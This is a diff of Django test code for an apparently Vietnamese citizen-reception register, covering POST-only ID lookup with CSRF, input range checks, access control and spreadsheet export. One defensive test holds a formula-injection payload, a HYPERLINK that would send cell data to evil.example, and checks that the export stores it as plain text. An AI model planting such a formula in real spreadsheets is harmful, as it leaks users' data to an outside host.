@@ -78,7 +78,8 @@ def test_register_rows_have_the_thirteen_columns_in_few_queries(desk):
 def test_visit_counts_are_visits_persons_cases_and_groups(desk):
     _march(desk)
     counts = visit_counts(desk.board, dt.date(2026, 3, 1), dt.date(2026, 3, 31))
-    assert (counts.visits, counts.persons, counts.cases) == (3, 4, 2)
+    # Persons: Nguyễn Văn Đức once (he came twice), the group's 3 entered and 5 more of its 8.
+    assert (counts.visits, counts.persons, counts.cases) == (3, 9, 2)
     assert (counts.first_cases, counts.repeated_cases, counts.group_visits) == (2, 0, 1)
     april = visit_counts(desk.board, dt.date(2026, 4, 1), dt.date(2026, 4, 30))
     assert (april.visits, april.cases, april.first_cases) == (1, 1, 1)
@@ -122,7 +123,7 @@ def test_an_official_of_another_unit_cannot_see_the_register_or_history(desk, cl
         kwargs={"unit_code": "BTCD-T19", "year": visit.year, "serial": visit.serial},
     )
     assert client.get(detail).status_code == 404
-    lookup = client.get(reverse("reception:citizen_lookup"), {"cccd": CITIZEN_ID})
+    lookup = client.post(reverse("reception:citizen_lookup"), {"cccd": CITIZEN_ID})
     assert lookup.status_code == 200
     assert lookup.context["history"].is_empty
 
@@ -136,15 +137,40 @@ def test_an_official_with_no_reception_unit_is_refused_the_register(desk, client
 
 def test_citizen_lookup_returns_earlier_visits_and_petitions(desk, client):
     visit = record(desk.reception, desk.board, outcome="petition_received")
-    response = _login(client, desk.reception).get(
-        reverse("reception:citizen_lookup"), {"cccd": CITIZEN_ID}
+    response = _login(client, desk.reception).post(
+        reverse("reception:citizen_lookup"), {"cccd": CITIZEN_ID, "fragment": "1"}
     )
     html = response.content.decode()
     assert visit.petition.reference in html
     assert f"{visit.serial}/{visit.year}" in html
-    bad = client.get(reverse("reception:citizen_lookup"), {"cccd": "123"})
+    assert "data-same-case" in html  # the fragment fills in the entry form
+    assert "<html" not in html
+    bad = client.post(reverse("reception:citizen_lookup"), {"cccd": "123"})
     assert bad.context["history"] is None
     assert "12" in bad.context["error"]
+
+
+def test_citizen_lookup_takes_the_id_only_in_a_post_with_its_csrf_token(desk):
+    from django.test import Client
+
+    record(desk.reception, desk.board)
+    client = Client(enforce_csrf_checks=True)
+    _login(client, desk.reception)
+    url = reverse("reception:citizen_lookup")
+    # In the address it is not looked up: it would be written in the access logs.
+    assert client.get(url, {"cccd": CITIZEN_ID}).context["history"] is None
+    assert client.post(url, {"cccd": CITIZEN_ID}).status_code == 403  # no token
+    page = client.get(url)  # without JavaScript: a page with a form
+    html = page.content.decode()
+    assert 'method="post"' in html
+    assert 'name="csrfmiddlewaretoken"' in html
+    token = page.context["csrf_token"]
+    found = client.post(url, {"cccd": CITIZEN_ID, "csrfmiddlewaretoken": str(token)})
+    assert found.status_code == 200
+    assert [v.reference for v in found.context["history"].visits] == ["1/2026"]
+    assert "data-same-case" not in found.content.decode()  # no entry form to fill in here
+    entry = client.get(reverse("reception:visit_new")).content.decode()
+    assert f'href="{url}"' in entry  # the way to it from the entry page, without JavaScript
 
 
 def _entry_post(**extra):
@@ -161,6 +187,54 @@ def _entry_post(**extra):
     }
     data.update(extra)
     return data
+
+
+@pytest.mark.parametrize(
+    ("query", "field"),
+    [
+        ({"tu": "01/01/0001"}, "tu"),
+        ({"den": "31/12/9999"}, "den"),
+        ({"tu": "31/12/9999"}, "tu"),
+        ({"tu": "01/01/1989", "den": "31/01/1989"}, "tu"),
+    ],
+    ids=["from-year-1", "to-year-9999", "from-year-9999", "before-1990"],
+)
+def test_a_register_period_out_of_range_is_refused_next_to_the_input(desk, client, query, field):
+    _login(client, desk.reception)
+    page = client.get(reverse("reception:register"), {"don_vi": "BTCD-T19", **query})
+    assert page.status_code == 200
+    assert field in page.context["form"].errors
+    export = client.get(reverse("reception:register_export"), {"don_vi": "BTCD-T19", **query})
+    assert export.status_code == 400  # the page with the message, not another period's book
+    assert field in export.context["form"].errors
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(desk, client):
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
+    record(
+        desk.reception,
+        desk.board,
+        visitors=[visitor("@Nguyễn Văn Đức", address="+84 Xóm 3")],
+        summary=formula,
+        prior_bodies="-1+1",
+    )
+    response = _login(client, desk.reception).get(reverse("reception:register_export"), MARCH)
+    sheet = load_workbook(BytesIO(response.content)).active
+    summary, names, prior = sheet["E6"], sheet["C6"], sheet["H6"]
+    assert summary.value == formula
+    assert names.value == "@Nguyễn Văn Đức, +84 Xóm 3"
+    assert prior.value == "-1+1"
+    assert {summary.data_type, names.data_type, prior.data_type} == {"s"}
+
+
+def test_a_visit_number_no_visit_can_have_is_not_found(desk, client):
+    _login(client, desk.reception)
+    for year, serial in ((2026, 10**20), (10**6, 1)):
+        url = reverse(
+            "reception:visit_detail",
+            kwargs={"unit_code": "BTCD-T19", "year": year, "serial": serial},
+        )
+        assert client.get(url).status_code == 404
 
 
 def test_entry_page_has_sensible_defaults(desk, client):
@@ -216,6 +290,44 @@ def test_entry_page_keeps_what_was_typed_on_error(desk, client):
     assert 'value="Sở Tài nguyên và Môi trường"' in html
     assert 'value="Người dân 3"' in html
     assert 'value="0190"' in html
+
+
+@pytest.mark.parametrize(
+    ("extra", "field"),
+    [
+        ({"received_on": "01/01/0001"}, "received_on"),
+        ({"received_on": "31/12/9999"}, "received_on"),
+        ({"people_count": str(10**20)}, "people_count"),
+        ({"same_case_as": "99999999999999999999"}, "same_case_as"),
+    ],
+    ids=["year-1", "year-9999", "huge-count", "huge-case-number"],
+)
+def test_entry_page_refuses_input_out_of_range_next_to_it(desk, client, extra, field):
+    # Explained at the desk, by the head, one representative: only the range is wrong.
+    post = _entry_post(outcome="explained", head_received="on", **{"v1-is_representative": "on"})
+    response = _login(client, desk.reception).post(
+        reverse("reception:visit_new"), {**post, **extra}
+    )
+    assert response.status_code == 400
+    assert field in response.context["form"].errors
+    assert not Visit.objects.exists()
+
+
+def test_a_leader_is_not_offered_to_record_a_written_petition(desk, client):
+    from django.utils import translation
+
+    with translation.override("en"):
+        page = _login(client, desk.leader).get(reverse("reception:visit_new"))
+        outcome = page.context["form"].fields["outcome"]
+        labels = dict(outcome.choices)
+        assert labels["petition_received"] == "Petition already received (enter its tracking code)"
+        assert "reception or triage officers" in outcome.help_text
+        response = client.post(reverse("reception:visit_new"), _entry_post())
+    assert response.status_code == 400
+    (message,) = response.context["form"].errors["outcome"]
+    assert message.startswith("Only reception or triage officers record a written petition")
+    assert not Visit.objects.exists()
+    assert 'value="Khiếu nại việc thu hồi đất"' in response.content.decode()  # kept
 
 
 def test_entry_page_shows_the_group_limit_message(desk, client):
